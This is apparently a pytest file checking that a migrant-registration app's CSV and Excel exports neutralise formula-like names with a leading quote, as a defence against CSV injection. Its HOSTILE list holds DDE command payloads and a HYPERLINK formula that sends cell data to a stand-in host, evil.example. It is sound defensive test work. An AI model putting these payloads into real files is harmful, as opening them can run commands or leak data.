"""Names that are formulas (issue 26, item 2): imported, then written by every export and report; no file
Qamqor writes holds a live formula (OWASP's CSV injection advice: a quote before the text)."""
from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from models.clock import today
from models.importing import reading, report, service
from models.importing.mapping import guess
from models.safe_cells import FORMULA_STARTS, neutralised
from models.services import exports
from tests.importing.conftest import admin, supervisor, write_list  # noqa: F401 (fixtures)

HOSTILE = ["=cmd|' /C notepad'!A1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\t=cmd|' /C calc'!A0", "\r=cmd|' /C calc'!A0"]


def hostile_list(path: Path) -> Path:
    entry = (today() - dt.timedelta(days=20)).strftime("%d.%m.%Y")
    lines = ["Фамилия;Имя;Дата рождения;Гражданство;Категория;Дата въезда;Основание пребывания"]
    for number, name in enumerate(HOSTILE):
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"{quoted};{quoted};0{number + 1}.02.1990;UZB;трудовой мигрант;{entry};безвиз")
    lines.append('Плохой;"=1+2";01.01.1990;"@Атлантида";трудовой мигрант;;')  # a problem whose value is a formula
    return write_list(path, "\r\n".join(lines) + "\r\n", "utf-8")


def looks_like_a_formula(text: str) -> bool:
    """A text a spreadsheet would evaluate (a negative number is a number)."""
    if not text.startswith(FORMULA_STARTS):
        return False
    try:
        float(text.replace(",", "."))
        return False
    except ValueError:
        return True


def defused(text: str) -> bool:
    """A hostile text, written with the quote before it."""
    return text.startswith("'") and text[1:].startswith(FORMULA_STARTS)


def checked_xlsx(path: Path) -> tuple[int, int]:
    """(cells checked, cells holding a hostile text); fails on any formula."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (path.name, name)
    cells = hostile = 0
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells += 1
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not looks_like_a_formula(cell.value), (path.name, sheet.title, cell.coordinate)
                    hostile += defused(cell.value)
    return cells, hostile


def checked_csv(path: Path) -> tuple[int, int]:
    cells = hostile = 0
    with path.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file, delimiter=";"):
            for value in row:
                cells += 1
                assert not looks_like_a_formula(value), (path.name, value)
                hostile += defused(value)
    return cells, hostile


def test_no_export_or_report_holds_a_formula(db, supervisor, tmp_path) -> None:  # noqa: F811
    listing = hostile_list(tmp_path / "list.csv")
    table = reading.read(listing)
    result = service.run(db, supervisor, service.check(db, supervisor, table, guess(table))).value
    assert result.counts["persons"] == len(HOSTILE)  # the names themselves are allowed: they are just texts

    again = reading.read(listing)  # the same file once more: every row is now a likely duplicate, by name
    dry = service.check(db, supervisor, again, guess(again))
    assert len(dry.duplicates) == len(HOSTILE) and dry.errors
    (tmp_path / "report.xlsx").write_bytes(report.report(again, dry))
    for name in ("alerts.csv", "alerts.xlsx"):
        exports.export_alerts(db, supervisor, tmp_path / name)
    for name in ("statistics.csv", "statistics.xlsx"):
        exports.export_statistics(db, supervisor, tmp_path / name)

    totals = {}
    for name in ("report.xlsx", "alerts.xlsx", "statistics.xlsx"):
        totals[name] = checked_xlsx(tmp_path / name)
    for name in ("alerts.csv", "statistics.csv"):
        totals[name] = checked_csv(tmp_path / name)
    print("cells checked, hostile cells:", totals)
    for name in ("report.xlsx", "alerts.xlsx", "alerts.csv"):
        assert totals[name][1] >= len(HOSTILE), name  # the hostile names are there, as text
    report_book = load_workbook(tmp_path / "report.xlsx")
    for sheet in ("Problems", "Duplicates"):
        assert any(defused(str(c.value)) for row in report_book[sheet].iter_rows() for c in row), sheet


def test_the_quote_is_added_to_texts_only() -> None:
    assert neutralised("=1+1") == "'=1+1" and neutralised("\t=1") == "'\t=1" and neutralised("＝1") == "'＝1"
    assert neutralised(-3) == -3 and neutralised("Юсупов") == "Юсупов" and neutralised("") == ""
